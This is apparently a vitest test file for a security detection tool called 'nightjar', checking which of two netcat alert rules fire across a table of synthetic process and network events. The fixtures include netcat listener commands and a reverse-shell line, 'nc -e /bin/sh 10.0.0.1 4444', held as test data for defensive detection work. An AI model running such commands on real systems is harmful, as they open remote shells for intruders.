// The two seed rules through `nightjar replay` (the built CLI) on the scenario table of the
// EQL issue: which scenarios alert for which rule.

import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import type { EcsDoc } from '../../src/ecs/ecs-event.js';
import { CONTAINER_ID, execEvent, networkEvent, type ProcSpec } from '../helpers/ecs-fixtures.js';
import { ecsProblems } from '../helpers/ecs-validate.js';
import { NIGHTJAR_BIN } from '../helpers/paths.js';

const RULE1 = 'Netcat Listener Established Inside A Container';
const RULE2 = 'File Transfer or Listener Established via Netcat';

interface Scenario {
  name: string;
  events: (p: ProcSpec) => EcsDoc[];
  spec: Omit<ProcSpec, 'entity' | 'pid'>;
  rule1: boolean;
  rule2: boolean;
}

const C = CONTAINER_ID;
const SCENARIOS: Scenario[] = [
  { name: 'C: nc -lvnp 4444', spec: { args: ['nc', '-lvnp', '4444'], container: C }, events: (p) => [execEvent(p)], rule1: true, rule2: false },
  { name: 'C: nc -l -p 4444 then accept', spec: { args: ['nc', '-l', '-p', '4444'], container: C }, events: (p) => [execEvent(p), networkEvent(p, 'connection_accepted')], rule1: true, rule2: true },
  { name: 'H: nc -l -p 4444 then accept', spec: { args: ['nc', '-l', '-p', '4444'] }, events: (p) => [execEvent(p), networkEvent(p, 'connection_accepted')], rule1: false, rule2: true },
  { name: 'H: nc -lp 4444, no network event', spec: { args: ['nc', '-lp', '4444'] }, events: (p) => [execEvent(p)], rule1: false, rule2: false },
  { name: 'C: busybox nc -l -p 4444', spec: { args: ['busybox', 'nc', '-l', '-p', '4444'], container: C }, events: (p) => [execEvent(p), networkEvent(p, 'connection_accepted')], rule1: true, rule2: false },
  { name: 'C: ncat --listen 4444', spec: { args: ['ncat', '--listen', '4444'], container: C }, events: (p) => [execEvent(p), networkEvent(p, 'listen')], rule1: true, rule2: false },
  { name: 'H: nc -e /bin/sh 10.0.0.1 4444 then connect', spec: { args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }, events: (p) => [execEvent(p), networkEvent(p, 'connection_attempted')], rule1: false, rule2: true },
  {
    name: 'H: nc -l -p 4444, the network event from another process', spec: { args: ['nc', '-l', '-p', '4444'] },
    events: (p) => [execEvent(p), networkEvent({ ...p, entity: `${p.entity}-other`, pid: p.pid + 1 }, 'connection_accepted')], rule1: false, rule2: false,
  },
  { name: 'C with container.id absent: nc -l -p 1', spec: { args: ['nc', '-l', '-p', '1'] }, events: (p) => [execEvent(p)], rule1: false, rule2: false },
];

describe('seed rules on the scenario table (nightjar replay)', () => {
  const dir = mkdtempSync(`${tmpdir()}/nightjar-replay-`);
  const events: EcsDoc[] = [];
  SCENARIOS.forEach((s, i) => events.push(...s.events({ ...s.spec, entity: `entity-${i}`, pid: 1000 + i })));
  // a noisy neighbour between them: not netcat
  events.push(execEvent({ entity: 'noise', pid: 99, args: ['/bin/ls', '-l', '-p'] }));
  writeFileSync(`${dir}/events.ndjson`, `${events.map((e) => JSON.stringify(e)).join('\n')}\n`);

  const run = execa(NIGHTJAR_BIN, ['replay', `${dir}/events.ndjson`]);

  it.each(SCENARIOS.map((s, i) => [s.name, i, s] as const))('%s', async (_name, i, s) => {
    const { stdout } = await run;
    const alerts = stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as EcsDoc);
    const mine = alerts.filter((a) => (a.process as { entity_id: string }).entity_id === `entity-${i}`);
    const names = mine.map((a) => (a.rule as { name: string }).name);
    expect(names.includes(RULE1)).toBe(s.rule1);
    expect(names.includes(RULE2)).toBe(s.rule2);
    expect(names.length).toBe(Number(s.rule1) + Number(s.rule2));
  });

  it('emits alerts with rule id, name, severity, risk score, event ids; valid ECS', async () => {
    const { stdout } = await run;
    const alerts = stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as EcsDoc);
    expect(alerts.length).toBe(SCENARIOS.reduce((n, s) => n + Number(s.rule1) + Number(s.rule2), 0));
    for (const a of alerts) {
      expect(a).toMatchObject({ event: { kind: 'alert', module: 'nightjar' }, rule: { id: expect.any(String), name: expect.any(String) } });
      expect((a.event as { severity: number }).severity).toBeOneOf([73, 47]);
      expect((a.nightjar as { alert: { event_ids: string[] } }).alert.event_ids.length).toBeGreaterThan(0);
      expect(ecsProblems(a)).toEqual([]);
    }
    const seqAlert = alerts.find((a) => (a.rule as { name: string }).name === RULE2)!;
    expect((seqAlert.nightjar as { alert: { events: unknown[] } }).alert.events).toHaveLength(2);
  });
});
